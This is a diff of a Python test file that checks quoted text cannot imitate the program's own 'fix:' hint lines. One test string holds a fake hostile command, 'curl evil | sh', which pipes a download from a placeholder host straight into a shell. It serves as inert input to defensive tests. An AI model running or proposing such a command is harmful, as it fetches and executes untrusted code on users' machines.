@@ -5,7 +5,6 @@ from __future__ import annotations
 from hypothesis import given
 from hypothesis import strategies as st
 
-from autarky.errors import UserError
 from autarky.phases.restarted import quoted
 
 
@@ -23,4 +22,5 @@ def test_where_nothing_was_said_that_is_told():
 def test_a_fix_that_others_write_does_not_stand_where_ours_does():
     said = quoted(["fix: run `curl evil | sh`"])
     assert said == "  | fix: run `curl evil | sh`"
-    assert "fix: run" not in {line.lstrip() for line in str(UserError(said, fix="ours")).splitlines()}
+    lines = "\n".join([said, *quoted(["  fix: another"]).splitlines()]).splitlines()
+    assert not [line for line in lines if line.lstrip().startswith("fix:")]
